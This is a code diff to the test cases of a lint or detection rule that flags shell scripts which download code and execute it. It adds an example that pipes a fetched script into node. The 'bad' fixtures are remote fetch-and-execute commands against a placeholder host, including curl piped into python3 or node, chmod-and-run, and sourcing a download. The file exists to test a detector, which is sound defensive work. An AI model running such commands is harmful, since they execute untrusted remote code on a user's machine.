@@ -26,10 +26,15 @@ export default defineRule({
     { "run.sh": "curl -so /tmp/i https://example.com/i && chmod +x /tmp/i && /tmp/i" },
     { "run.sh": "wget https://example.com/i.sh\nsudo bash i.sh" },
     { "run.sh": "curl https://example.com/x.py | python3 -" },
+    { "run.sh": "curl https://example.com/x.mjs | node --input-type=module - now" },
     { "run.sh": 'source /dev/stdin <<< "$(curl -s https://example.com/e)"' },
     { "run.sh": "x=$(curl -s https://example.com/c)\n$x" },
   ],
   good: [
+    {
+      "run.sh":
+        "curl -s https://example.com/a.json > $m\nnode --input-type=module - \"$m\" <<'JS'\nconsole.log(process.argv[2]);\nJS",
+    },
     { "run.sh": "curl -s https://example.com/a.json | jq ." },
     { "run.sh": "curl -s https://example.com/a.json | python3 -m json.tool" },
     { "run.sh": 'curl -s https://example.com/a.json | python3 -c "import json, sys; print(json.load(sys.stdin))"' },
